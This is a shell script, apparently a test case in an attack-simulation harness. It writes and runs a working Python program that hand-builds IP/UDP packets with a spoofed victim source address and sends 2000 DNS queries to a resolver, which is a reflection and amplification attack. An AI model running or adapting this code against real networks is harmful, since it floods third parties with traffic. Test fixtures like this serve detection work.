#!/bin/sh
. /opt/case/case.sh

cat >/tmp/amp.py <<'END'
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
question = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + b"\x07example\x03com\0" + struct.pack("!2H", 16, 1)
victim, server = socket.inet_aton("198.51.100.66"), socket.inet_aton("203.0.113.53")
for i in range(2000):
    udp = struct.pack("!4H", 1024 + i, 53, 8 + len(question), 0) + question
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), i, 0, 64, 17, 0, victim, server)
    s.sendto(head + udp, ("203.0.113.53", 0))
print("sent")
END
python3 /tmp/amp.py | grep -q sent
took_place
